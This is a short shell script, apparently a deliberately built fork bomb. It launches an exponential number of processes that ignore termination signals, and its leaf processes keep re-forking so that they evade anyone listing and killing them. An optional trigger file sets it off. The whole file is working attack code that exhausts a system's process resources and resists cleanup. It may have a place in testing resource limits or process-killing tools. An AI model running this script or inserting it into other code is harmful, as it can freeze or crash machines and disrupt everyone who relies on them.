#!/bin/sh
# A fork bomb of bounded size: "$1" generations that double, then lines of processes that hand over to a child and die, for
# ever, so that whoever lists them is always late. 2 ** ("$1" + 1) processes; they do not care for signals. It goes off
# when the file "$2" is there, if that is given.
trap '' TERM INT HUP QUIT

# shellcheck disable=SC2264
hop() { hop & }

bomb() {
  if [ "$1" -eq 0 ]; then
    hop
  else
    bomb $(($1 - 1)) &
    bomb $(($1 - 1)) &
    exec sleep 1000
  fi
}

until [ -z "${2-}" ] || [ -e "$2" ]; do sleep 0.1; done
bomb "${1:-7}"
